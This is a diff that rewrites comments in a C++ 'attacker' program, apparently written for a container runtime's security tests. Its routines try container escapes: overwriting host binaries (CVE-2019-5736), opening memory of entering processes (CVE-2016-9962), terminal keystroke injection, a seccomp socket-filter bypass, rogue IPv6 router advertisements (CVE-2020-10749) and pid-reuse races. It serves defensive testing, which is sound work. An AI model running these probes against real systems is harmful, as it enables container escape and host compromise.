@@ -1,9 +1,9 @@
-// What a hostile process in a container tries, for the security tests: it reports what it got. Static, as the
-// probe is.
+// A hostile process in a container, for the security tests: tries an attack and reports what it got. Static,
+// like the probe.
 //
-//   attacker COMMAND [ARGUMENT...]
+// attacker COMMAND [ARGUMENT...]
 //
-// Commands that race go on until they are killed, and print each thing that they find once.
+// Commands that race go on until they are killed, and print each finding once.
 #include <arpa/inet.h>
 #include <dirent.h>
 #include <fcntl.h>
@@ -47,7 +47,7 @@ std::string outcome(long result) {
   return result == -1 ? failure() : "ok";
 }
 
-/** Prints a line the first time that it is said. */
+/** Prints a line unless it was printed before. */
 void tell_once(const std::string& line) {
   static std::set<std::string> told;
   if (!told.insert(line).second) return;
@@ -81,7 +81,7 @@ std::vector<std::string> names_in(const std::string& path) {
   return names;
 }
 
-/** Other processes. */
+/** Returns the pids of the other processes. */
 std::vector<std::string> processes() {
   std::vector<std::string> found;
   const std::string self = std::to_string(::getpid());
@@ -91,24 +91,25 @@ std::vector<std::string> processes() {
   return found;
 }
 
-/** "socket:[123]" as "socket", "/dev/pts/0" as it is. */
+/** Returns "socket" for "socket:[123]"; other texts, such as "/dev/pts/0", unchanged. */
 std::string without_number(const std::string& link) {
   return link.substr(0, link.find(":["));
 }
 
-/** One who becomes a process of the container, but has not executed its command yet. */
+/** Whether a process is entering the container and has not executed its command yet. */
 bool is_on_its_way(const std::string& process) {
   return first_line_of("/proc/" + process + "/comm").starts_with("tspod");
 }
 
-/** swap A B: each takes the other's place, again and again. */
+/** swap A B: exchanges the two paths, again and again. */
 void swap(const Words& words) {
   for (;;) ::renameat2(AT_FDCWD, words.at(0).c_str(), AT_FDCWD, words.at(1).c_str(), RENAME_EXCHANGE);
 }
 
 /**
- * Tries to write to the program of every process that is not of the container's file system: the way from
- * the O_PATH descriptor also works when the process has executed something else meanwhile (CVE-2019-5736).
+ * Tries to write to the program of every process whose program is outside the container's file system.
+ * Opening it through the O_PATH descriptor also works if the process has executed something else meanwhile
+ * (CVE-2019-5736).
  */
 void overwrite(const Words&) {
   struct stat root {};
@@ -139,13 +140,15 @@ void attach(const std::string& process) {
   }
   ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
   ::waitpid(pid, nullptr, __WALL);
-  // It may have executed its command before it stopped; then it is the container's own.
+  // The process may have executed its command before it stopped; then it is one of the container's own.
   if (is_on_its_way(process)) tell_once("attach=ok");
   ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
 }
 
-/** What can be had of processes that are on their way into the container (CVE-2016-9962). [attach]: of the
- * process itself, too. */
+/**
+ * Tries to open the memory and descriptors of processes that are entering the container (CVE-2016-9962); with
+ * an argument, also to trace them.
+ */
 void spy(const Words& words) {
   for (;;) {
     for (const std::string& process : processes()) {
@@ -154,7 +157,7 @@ void spy(const Words& words) {
       const std::string directory = "/proc/" + process;
       if (!words.empty()) attach(process);
       const int memory = ::open((directory + "/mem").c_str(), O_RDWR | O_CLOEXEC);
-      // Of one that has executed its command meanwhile it may be had.
+      // If the process has executed its command meanwhile, access is legitimate.
       if (memory == -1 || is_on_its_way(process)) tell_once("mem=" + outcome(memory));
       if (memory != -1) ::close(memory);
       const int fds = ::open((directory + "/fd").c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
@@ -170,7 +173,7 @@ void spy(const Words& words) {
 }
 
 #ifdef __x86_64__
-/** A system call as programs of 32-bit x86 make it. */
+/** Makes a system call as 32-bit x86 programs do. */
 long call_32(long number, uint32_t first, uint32_t second, uint32_t third) {
   long result = number;
   asm volatile("int $0x80"
@@ -200,12 +203,12 @@ void families_of_32_bits(int family) {
 }
 #endif
 
-/** families FAMILY...: sockets of these, in all ways that there are to ask for one. */
+/** families FAMILY...: asks for sockets of these families in all possible ways. */
 void families(const Words& words) {
   for (const std::string& word : words) {
     const int family = static_cast<int>(std::strtol(word.c_str(), nullptr, 10));
     tell_once("socket " + word + "=" + outcome(::socket(family, SOCK_SEQPACKET, 0)));
-    // The kernel takes an int: what stands above it must not deceive the filter.
+    // The kernel takes an int: higher bits must not deceive the filter.
     tell_once("socket64 " + word + "=" +
               outcome(::syscall(SYS_socket, (1L << 40) | static_cast<long>(family), SOCK_SEQPACKET, 0)));
 #ifdef __x86_64__
@@ -214,7 +217,7 @@ void families(const Words& words) {
   }
 }
 
-/** type: puts a character into the input of each terminal within reach, as if it was typed there. */
+/** type: puts a character into the input of each reachable terminal, as if it were typed there. */
 void type(const Words&) {
   constexpr int kPasteSelection = 3;
   for (const char* path :
@@ -232,7 +235,7 @@ void type(const Words&) {
   }
 }
 
-/** devices TYPE:MAJOR:MINOR...: makes and opens each. */
+/** devices TYPE:MAJOR:MINOR...: makes and opens each device. */
 void devices(const Words& words) {
   for (const std::string& word : words) {
     const std::string path = "/tmp/device";
@@ -249,8 +252,10 @@ void devices(const Words& words) {
   }
 }
 
-/** advertise INTERFACE: says to all on the link that this is their router, and that 2001:db8:bad::/64 is
- * theirs (CVE-2020-10749). */
+/**
+ * advertise INTERFACE: announces to everybody on the link that this is their router, and that
+ * 2001:db8:bad::/64 is their prefix (CVE-2020-10749).
+ */
 void advertise(const Words& words) {
   struct {
     nd_router_advert head;
@@ -258,7 +263,7 @@ void advertise(const Words& words) {
   } message{};
   constexpr uint16_t kSeconds = 1800;
   constexpr uint8_t kPrefixBits = 64;
-  constexpr int kHops = 255;  // those of others are not believed
+  constexpr int kHops = 255;  // others are ignored
   message.head.nd_ra_type = ND_ROUTER_ADVERT;
   message.head.nd_ra_router_lifetime = htons(kSeconds);
   message.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
@@ -288,8 +293,10 @@ char state_of(pid_t pid) {
   return name_end == std::string::npos || name_end + 2 >= line.size() ? '?' : line[name_end + 2];
 }
 
-/** renew COUNT: children that have ended, which it reaps as soon as somebody stops it: another process, which
- * is no child of its, lets it go on. */
+/**
+ * renew COUNT: has children that have ended, and reaps them as soon as it is stopped: another process, which
+ * is not its child, resumes it.
+ */
 void renew(const Words& words) {
   const pid_t self = ::getpid();
   const auto nap = [] {
@@ -314,7 +321,7 @@ void renew(const Words& words) {
   for (;;) ::pause();
 }
 
-/** Children that have ended of others that run this program, as the numbers of this pid namespace. */
+/** Returns the pids, in this pid namespace, of ended children of other processes that run this program. */
 std::vector<pid_t> unreaped() {
   std::vector<pid_t> found;
   for (const std::string& name : names_in("/proc")) {
@@ -334,8 +341,10 @@ pid_t take_number(int last_pid, pid_t wanted) {
   for (;;) ::pause();
 }
 
-/** take COUNT SECONDS: a host whose new processes get the numbers of `renew COUNT`'s children once those are
- * reaped, and how many of them were signalled. For a pid namespace of its own. */
+/**
+ * take COUNT SECONDS: plays a host whose new processes get the pids of the children of `renew COUNT` once
+ * those are reaped, and prints how many of them were signalled. For a pid namespace of its own.
+ */
 void take(const Words& words) {
   const size_t count = std::stoul(words.at(0));
   const time_t end = ::time(nullptr) + std::stoi(words.at(1));
